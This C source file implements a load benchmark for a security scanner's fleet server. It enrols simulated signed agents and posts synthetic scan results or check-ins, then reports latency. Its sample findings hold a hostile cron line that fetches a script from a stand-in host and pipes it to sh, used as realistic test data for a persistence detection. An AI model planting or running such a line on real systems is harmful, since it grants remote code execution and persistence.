/*
 * bench.c — `rasoat agent bench` (agent/bench.h): simulated agents against
 * a fleet server. Each worker thread owns a share of the agents (so an
 * agent's counters stay in order) and one keep-alive libcurl handle.
 */
#include "agent/bench.h"
#include "cmd/option_table.h"
#include "core/finding.h"
#include "core/i18n.h"
#include "core/lib_curl.h"
#include "core/log.h"
#include "core/summary.h"
#include "core/util.h"
#include "fleet/proto.h"
#include "store/fleet.h"

#include <getopt.h>
#include <jansson.h>
#include <pthread.h>
#include <sodium.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <time.h>

typedef struct sim_agent {
	char id[RS_FLEET_ID_HEX + 1];
	unsigned char secret_key[crypto_sign_SECRETKEYBYTES];
	unsigned long long counter;
} sim_agent;

typedef struct bench {
	const char *server, *token, *mode;
	long agents, reports, findings, threads, interval, duration;
	sim_agent *sims;
	double *latency;          /* seconds, one per request */
	atomic_long next;          /* next agent to enrol */
	atomic_long ok, failed, late;
	double start, max_lag;
	pthread_mutex_t lock;
} bench;

typedef struct worker {
	bench *b;
	long index;
	CURL *curl;
} worker;

static double mono(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static size_t discard(char *ptr, size_t size, size_t nmemb, void *userdata)
{
	(void)ptr;
	(void)userdata;
	return size * nmemb;
}

static size_t keep(char *ptr, size_t size, size_t nmemb, void *userdata)
{
	rs_buf *buf = userdata;
	if (buf->len < 4096)
		rs_buf_append(buf, ptr, size * nmemb);
	return size * nmemb;
}

/* POSTs BODY to PATH, signed by SIM when given. Returns the HTTP status, 0
 * when there was no answer; the reply body into OUT when not NULL. */
static long post(worker *w, const char *path, const char *body, sim_agent *sim, rs_buf *out)
{
	char url[512], line[200];
	snprintf(url, sizeof(url), "%s%s", w->b->server, path);
	struct curl_slist *h = rs_curl.slist_append(NULL, "Content-Type: application/json");
	h = rs_curl.slist_append(h, "Expect:");
	if (sim) {
		long long now = (long long)time(NULL);
		char sig[RS_FLEET_SIG_B64 + 1];
		sim->counter++;
		rs_fleet_sign(sim->secret_key, "POST", path, sim->id, now, sim->counter, body, strlen(body), sig);
		snprintf(line, sizeof(line), "%s: %s", RS_FLEET_HDR_AGENT, sim->id);
		h = rs_curl.slist_append(h, line);
		snprintf(line, sizeof(line), "%s: %llu", RS_FLEET_HDR_COUNTER, sim->counter);
		h = rs_curl.slist_append(h, line);
		snprintf(line, sizeof(line), "%s: %lld", RS_FLEET_HDR_TIME, now);
		h = rs_curl.slist_append(h, line);
		snprintf(line, sizeof(line), "%s: %s", RS_FLEET_HDR_SIGNATURE, sig);
		h = rs_curl.slist_append(h, line);
	}
	rs_curl.easy_setopt(w->curl, CURLOPT_URL, url);
	rs_curl.easy_setopt(w->curl, CURLOPT_POSTFIELDS, body);
	rs_curl.easy_setopt(w->curl, CURLOPT_POSTFIELDSIZE_LARGE, (curl_off_t)strlen(body));
	rs_curl.easy_setopt(w->curl, CURLOPT_HTTPHEADER, h);
	rs_curl.easy_setopt(w->curl, CURLOPT_WRITEFUNCTION, out ? keep : discard);
	rs_curl.easy_setopt(w->curl, CURLOPT_WRITEDATA, out);
	long status = 0;
	if (rs_curl.easy_perform(w->curl) == CURLE_OK)
		rs_curl.easy_getinfo(w->curl, CURLINFO_RESPONSE_CODE, &status);
	rs_curl.slist_free_all(h);
	return status;
}

static void *enrol_worker(void *arg)
{
	worker *w = arg;
	bench *b = w->b;
	for (long i; (i = atomic_fetch_add(&b->next, 1)) < b->agents;) {
		sim_agent *sim = &b->sims[i];
		unsigned char pk[crypto_sign_PUBLICKEYBYTES];
		crypto_sign_keypair(pk, sim->secret_key);
		char b64[64];
		rs_fleet_base64(pk, sizeof(pk), b64, sizeof(b64));
		char host[32];
		snprintf(host, sizeof(host), "sim-%06ld", i);
		json_t *o = json_pack("{s:s,s:s,s:{s:s,s:s,s:s,s:s,s:s}}", "token", b->token, "public_key", b64,
				      "host", "hostname", host, "os", "debian", "os_version", "12",
				      "kernel", "6.1.0-bench", "arch", "x86_64");
		char *body = json_dumps(o, JSON_COMPACT);
		rs_buf reply;
		rs_buf_init(&reply);
		long status = post(w, "/api/v1/enroll", body, NULL, &reply);
		json_t *r = status == 201 ? json_loadb(reply.data, reply.len, 0, NULL) : NULL;
		const char *id = json_string_value(json_object_get(r, "agent"));
		if (id && strlen(id) == RS_FLEET_ID_HEX)
			memcpy(sim->id, id, RS_FLEET_ID_HEX + 1);
		else
			atomic_fetch_add(&b->failed, 1);
		json_decref(r);
		rs_buf_free(&reply);
		free(body);
		json_decref(o);
	}
	return NULL;
}

/* A results body: one scan of FINDINGS findings, realistic fields. */
/* A result batch of one scan with FINDINGS findings; its scan and batch
 * ids to SCAN and BATCH. */
static char *results_body(long findings, char scan[RS_FLEET_ID_HEX + 1], char batch[RS_FLEET_ID_HEX + 1])
{
	rs_summary s;
	rs_summary_init(&s);
	rs_fleet_random_hex(s.scan, 16);
	memcpy(scan, s.scan, RS_FLEET_ID_HEX + 1);
	s.host = rs_strdup("sim");
	s.root = rs_strdup("/");
	rs_fleet_iso_time((long long)time(NULL), s.started, sizeof(s.started));
	s.complete = true;
	json_t *list = json_array();
	for (long i = 0; i < findings; i++) {
		rs_severity sev = (rs_severity)(i % RS_SEV_COUNT);
		rs_finding *f = rs_finding_new(i % 2 ? "persist" : "audit", i % 2 ? "rasoat:persist.cron" :
					       "cis:debian12.5.2.3", sev, -1,
					       "Cron job fetches and runs a script from the network");
		char path[64];
		snprintf(path, sizeof(path), "/etc/cron.d/job%ld", i);
		rs_finding_set_str(f, "path", path);
		rs_finding_set_str(f, "line", "* * * * * root curl -s http://a.example/x.sh | sh");
		rs_finding_set_str(f, "sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
		rs_finding_add_attack(f, "T1053.003");
		rs_finding_add_reference(f, "https://attack.mitre.org/techniques/T1053/003/");
		rs_finding_set_remediation(f, "Remove the job unless it is known; find who wrote it.");
		s.counts[sev]++;
		json_array_append_new(list, rs_finding_to_json(f, s.scan));
		rs_finding_free(f);
	}
	s.score = rs_score_from_counts(s.counts);
	rs_fleet_random_hex(batch, RS_FLEET_ID_HEX / 2);
	json_t *body = json_pack("{s:s,s:[{s:o,s:o}]}", "batch_id", batch, "scans", "summary",
				 rs_summary_to_json(&s), "findings", list);
	char *text = json_dumps(body, JSON_COMPACT);
	json_decref(body);
	rs_summary_free(&s);
	return text;
}

/* Gives the batch TEXT (made by results_body) new random ids in place:
 * every occurrence of its SCAN and BATCH ids is replaced, so the load
 * generator builds the body once, not once a request. */
static void renew_ids(char *text, char scan[RS_FLEET_ID_HEX + 1], char batch[RS_FLEET_ID_HEX + 1])
{
	char *const ids[2] = { scan, batch };
	for (int k = 0; k < 2; k++) {
		char fresh[RS_FLEET_ID_HEX + 1];
		rs_fleet_random_hex(fresh, RS_FLEET_ID_HEX / 2);
		for (char *p = text; (p = strstr(p, ids[k])) != NULL; p += RS_FLEET_ID_HEX)
			memcpy(p, fresh, RS_FLEET_ID_HEX);
		memcpy(ids[k], fresh, RS_FLEET_ID_HEX + 1);
	}
}

static void record(bench *b, long slot, double latency, long status, long want)
{
	b->latency[slot] = latency;
	atomic_fetch_add(status == want ? &b->ok : &b->failed, 1);
}

/* results: this worker's agents in turn, REPORTS / THREADS batches. */
static void *results_worker(void *arg)
{
	worker *w = arg;
	bench *b = w->b;
	long mine = 0;
	char scan[RS_FLEET_ID_HEX + 1], batch[RS_FLEET_ID_HEX + 1];
	char *body = results_body(b->findings, scan, batch);
	for (long slot = w->index; slot < b->reports; slot += b->threads, mine++) {
		/* this worker owns the agents w->index, w->index + threads, … */
		long share = (b->agents - w->index + b->threads - 1) / b->threads;
		long a = w->index + (mine % share) * b->threads;
		renew_ids(body, scan, batch);
		double t0 = mono();
		long status = post(w, "/api/v1/results", body, &b->sims[a], NULL);
		record(b, slot, mono() - t0, status, 200);
	}
	free(body);
	return NULL;
}

/* checkin: agent i checks in at start + i * interval / agents (+ k intervals). */
static void *checkin_worker(void *arg)
{
	worker *w = arg;
	bench *b = w->b;
	long total = b->agents * (b->duration / b->interval);
	const char *body = "{\"spooled\":0}";
	/* slot s is agent s % agents: with agents a multiple of threads, each
	 * agent stays with one worker, so its counters go up in order */
	for (long slot = w->index; slot < total; slot += b->threads) {
		double due = b->start + (double)slot * (double)b->interval / (double)b->agents;
		double now = mono();
		if (due > now) {
			struct timespec ts = { (time_t)(due - now), (long)((due - now - (double)(time_t)(due - now)) * 1e9) };
			nanosleep(&ts, NULL);
		} else if (now - due > 1.0) {
			atomic_fetch_add(&b->late, 1);
		}
		double t0 = mono();
		long status = post(w, "/api/v1/checkin", body, &b->sims[slot % b->agents], NULL);
		double t1 = mono();
		record(b, slot, t1 - t0, status, 200);
		pthread_mutex_lock(&b->lock);
		if (t1 - due > b->max_lag)
			b->max_lag = t1 - due;
		pthread_mutex_unlock(&b->lock);
	}
	return NULL;
}

/* This process's user and system CPU seconds so far. */
static void cpu_seconds(double *user, double *sys)
{
	struct rusage ru;
	getrusage(RUSAGE_SELF, &ru);
	*user = (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6;
	*sys = (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6;
}

static int cmp_double(const void *x, const void *y)
{
	double a = *(const double *)x, c = *(const double *)y;
	return a < c ? -1 : a > c;
}

static int run_workers(bench *b, void *(*fn)(void *))
{
	pthread_t *tids = rs_calloc((size_t)b->threads, sizeof(*tids));
	worker *ws = rs_calloc((size_t)b->threads, sizeof(*ws));
	for (long i = 0; i < b->threads; i++) {
		ws[i] = (worker){ b, i, rs_curl.easy_init() };
		rs_curl.easy_setopt(ws[i].curl, CURLOPT_POST, 1L);
		rs_curl.easy_setopt(ws[i].curl, CURLOPT_NOSIGNAL, 1L);
		rs_curl.easy_setopt(ws[i].curl, CURLOPT_TIMEOUT, 60L);
		pthread_create(&tids[i], NULL, fn, &ws[i]);
	}
	for (long i = 0; i < b->threads; i++) {
		pthread_join(tids[i], NULL);
		rs_curl.easy_cleanup(ws[i].curl);
	}
	free(tids);
	free(ws);
	return 0;
}

static int usage(FILE *out)
{
	fputs("usage: rasoat agent bench --server URL --token TOKEN [--agents N] [--threads T]\n"
	      "         [--mode results --reports M --findings F | --mode checkin --interval S --duration S]\n"
	      "Enrols N simulated agents (the token needs N uses), then posts M signed result\n"
	      "batches of one scan with F findings each, or checks every agent in once every S\n"
	      "seconds for the duration. Prints one JSON line of figures.\n", out);
	return 2;
}

static int parse(int argc, char **argv, bench *b)
{
	static const struct option opts[] = {
		{ "server", required_argument, NULL, 's' }, { "token", required_argument, NULL, 't' },
		{ "agents", required_argument, NULL, 'a' }, { "reports", required_argument, NULL, 'r' },
		{ "findings", required_argument, NULL, 'f' }, { "threads", required_argument, NULL, 'j' },
		{ "mode", required_argument, NULL, 'm' }, { "interval", required_argument, NULL, 'i' },
		{ "duration", required_argument, NULL, 'd' }, { "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	b->agents = 100;
	b->reports = 1000;
	b->findings = 20;
	b->threads = 8;
	b->mode = "results";
	b->interval = 60;
	b->duration = 60;
	optind = 1;
	int c;
	while ((c = rs_getopt_long(argc, argv, "", opts, NULL)) != -1) {
		long *target = NULL;
		switch (c) {
		case 's': b->server = optarg; break;
		case 't': b->token = optarg; break;
		case 'm': b->mode = optarg; break;
		case 'a': target = &b->agents; break;
		case 'r': target = &b->reports; break;
		case 'f': target = &b->findings; break;
		case 'j': target = &b->threads; break;
		case 'i': target = &b->interval; break;
		case 'd': target = &b->duration; break;
		case 'h': usage(stdout); return 1;
		default: return usage(stderr);
		}
		if (target && (!rs_parse_long(optarg, target) || *target < 1 || *target > 10000000))
			return usage(stderr);
	}
	if (!b->server || !b->token || (strcmp(b->mode, "results") && strcmp(b->mode, "checkin")) ||
	    b->threads > 256 || b->findings > 100000 || b->duration < b->interval)
		return usage(stderr);
	if (b->threads > b->agents)
		b->threads = b->agents;
	if (strcmp(b->mode, "checkin") == 0 && b->agents % b->threads != 0) {
		rs_error(_("agent bench --mode checkin: --agents must be a multiple of --threads"));
		return 2;
	}
	return 0;
}

int rs_agent_bench_main(int argc, char **argv)
{
	bench b;
	memset(&b, 0, sizeof(b));
	int parsed = parse(argc, argv, &b);
	if (parsed)
		return parsed == 1 ? 0 : 2;
	pthread_mutex_init(&b.lock, NULL);
	b.sims = rs_calloc((size_t)b.agents, sizeof(*b.sims));
	double t0 = mono();
	run_workers(&b, enrol_worker);
	double enrol_s = mono() - t0;
	if (atomic_load(&b.failed) > 0) {
		rs_error(_("agent bench: %ld of %ld enrolments failed (does the token have %ld uses? "
			 "is --address-rate high enough?)"), atomic_load(&b.failed), b.agents, b.agents);
		free(b.sims);
		return 2;
	}
	bool checkin = strcmp(b.mode, "checkin") == 0;
	long total = checkin ? b.agents * (b.duration / b.interval) : b.reports;
	b.latency = rs_calloc((size_t)total, sizeof(*b.latency));
	b.start = mono() + 0.2;
	double user0, sys0, user1, sys1;
	cpu_seconds(&user0, &sys0);
	run_workers(&b, checkin ? checkin_worker : results_worker);
	double secs = mono() - (checkin ? b.start : b.start - 0.2);
	cpu_seconds(&user1, &sys1);
	qsort(b.latency, (size_t)total, sizeof(*b.latency), cmp_double);
	double p50 = b.latency[total / 2], p99 = b.latency[(total * 99) / 100 < total ? (total * 99) / 100 : total - 1];
	json_t *o = json_pack("{s:s,s:i,s:i,s:i,s:i,s:I,s:I,s:f,s:f,s:f,s:f,s:f,s:f}", "mode", b.mode,
		"agents", (int)b.agents, "threads", (int)b.threads, "findings", checkin ? 0 : (int)b.findings,
		"requests", (int)total, "ok", (json_int_t)atomic_load(&b.ok), "failed",
		(json_int_t)atomic_load(&b.failed), "enrol_seconds", enrol_s, "seconds", secs,
		"per_second", (double)total / secs, "p50_ms", p50 * 1000, "p99_ms", p99 * 1000,
		"max_ms", b.latency[total - 1] * 1000);
	/* the load generator's own CPU over the measured run (it shares the
	 * machine with the server) */
	json_object_set_new(o, "cpu_user_s", json_real(user1 - user0));
	json_object_set_new(o, "cpu_sys_s", json_real(sys1 - sys0));
	json_object_set_new(o, "cpu_ms_per_request", json_real((user1 - user0 + sys1 - sys0) * 1000 / (double)total));
	if (checkin) {
		json_object_set_new(o, "max_lag_ms", json_real(b.max_lag * 1000));
		json_object_set_new(o, "late_over_1s", json_integer(atomic_load(&b.late)));
	}
	char *line = json_dumps(o, JSON_COMPACT);
	printf("%s\n", line);
	free(line);
	json_decref(o);
	free(b.latency);
	free(b.sims);
	pthread_mutex_destroy(&b.lock);
	return atomic_load(&b.failed) ? 1 : 0;
}
